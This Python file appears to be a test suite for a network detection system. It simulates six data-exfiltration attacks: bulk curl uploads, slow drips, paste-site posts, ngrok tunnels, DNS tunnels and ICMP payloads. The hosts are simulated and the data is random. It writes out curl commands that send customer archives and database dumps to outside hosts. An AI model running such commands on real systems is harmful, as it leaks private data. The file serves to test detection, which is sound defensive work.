"""Data that leaves: at once, in drips, to places that take anything, through DNS and through ICMP. It is random bytes."""

from __future__ import annotations

import os

from proving import zone
from proving.hosts import Reply
from proving.scenario import Must, Repeat, attack
from proving.world import World

DROP = "203.0.113.60"
NOT = ("port-scan", "lateral-movement", "cryptomining")


@attack(
    "exfil-bulk",
    "an archive of 24 MB goes to a host that was never seen, 2 MB a second",
    must=(Must("data-exfiltration", "curl", "storage-sync.example", within=6.0),),
    must_not=(*NOT, "beaconing"),
)
def exfil_bulk(world: World) -> None:
    """Ten megabytes are gone after five seconds; one more until the tick."""
    drop = world.host(DROP, "files.storage-sync.example")
    drop.http(443, lambda asked: Reply({"ok": True}), tls=True)
    world.file("/srv/data/customers.tar", os.urandom(24 << 20))
    world.mark()
    world.run(
        "curl", "-sS", "--limit-rate", "2M", "-T", "/srv/data/customers.tar", "https://files.storage-sync.example/u/1"
    )
    assert drop.received == 24 << 20


@attack(
    "exfil-drip",
    "48 kB go to a host that was never seen every minute, give or take 20 %, for eight hours",
    must=(Must("data-exfiltration", "sync_state", "static-host.example", within=12_600.0),),
    may=("beaconing",),
    must_not=NOT,
    minutes=480.0,
    repeats={"drip": Repeat(60.0, 0.2)},
)
def exfil_drip(world: World) -> None:
    """Ten megabytes are gone after 208 minutes."""
    drop = world.host(DROP, "img.static-host.example")
    drop.http(443, lambda asked: Reply({"ok": True}), tls=True)
    path = world.program("/srv/app/sync_state.py", "post.py")
    actor = world.script(path, "https://img.static-host.example/upload", "48000", "4", "3")
    world.sleep(2.0)
    world.mark()
    with world.loop("drip"):
        world.sleep(4.0)
    actor.wait()


@attack(
    "exfil-paste",
    "a web application's child posts a file of 400 kB to a paste service",
    must=(Must("data-exfiltration", "", "pastebin.com"),),
    may=("unexpected-process", "baseline-deviation"),
    must_not=(*NOT, "beaconing"),
)
def exfil_paste(world: World) -> None:
    paste = world.host("198.51.100.31", "pastebin.com", "www.pastebin.com")
    paste.http(443, lambda asked: Reply("https://pastebin.com/x1", kind="text/plain"), tls=True)
    world.file("/srv/app/dump.sql", os.urandom(200_000).hex())
    service = world.script(world.program("/srv/app/api.py", "service.py"), "8080", unit="shop.service")
    world.listening(service, 8080)
    world.mark()
    command = "curl -sS --data-binary @/srv/app/dump.sql https://pastebin.com/api/api_post.php"
    world.run("sh", "-c", f"{command}; true", unit="shop.service")
    assert paste.received == 400_000
    service.stop()


@attack(
    "exfil-tunnel-service",
    "6 MB go through a tunnel service's host name",
    must=(Must("data-exfiltration", "", "ngrok-free.app"),),
    must_not=(*NOT, "beaconing"),
)
def exfil_tunnel(world: World) -> None:
    tunnel = world.host("198.51.100.32", "f3a1-203-0-113-9.ngrok-free.app")
    tunnel.http(443, lambda asked: Reply({"ok": True}), tls=True)
    path = world.program("/srv/app/export.py", "post.py")
    world.mark()
    world.script(path, "https://f3a1-203-0-113-9.ngrok-free.app/", "1000000", "1", "6").wait()


@attack(
    "exfil-dns",
    "60 kB leave as names below one domain, with TXT answers, as iodine and dnscat2 do",
    must=(Must("dns-tunnel", "resolver_check", "ns-metrics.example"),),
    may=("data-exfiltration", "beaconing"),
    must_not=NOT,
)
def exfil_dns(world: World) -> None:
    world.names.below(
        "t.ns-metrics.example", lambda name, kind: zone.text(os.urandom(60)) if kind == zone.TXT else None
    )
    path = world.program("/srv/app/resolver_check.py", "dnstunnel.py")
    world.mark()
    world.script(path, "t.ns-metrics.example", "60000", "60").wait()
    assert len(world.names.asked) > 400


@attack(
    "exfil-icmp",
    "3 MB leave in the payloads of echo requests",
    must=(Must("data-exfiltration", "netcheck", DROP),),
    may=("dns-tunnel",),
    must_not=NOT,
)
def exfil_icmp(world: World) -> None:
    path = world.program("/srv/app/netcheck.py", "icmp.py")
    world.mark()
    world.script(path, DROP, "1400", "2200").wait()
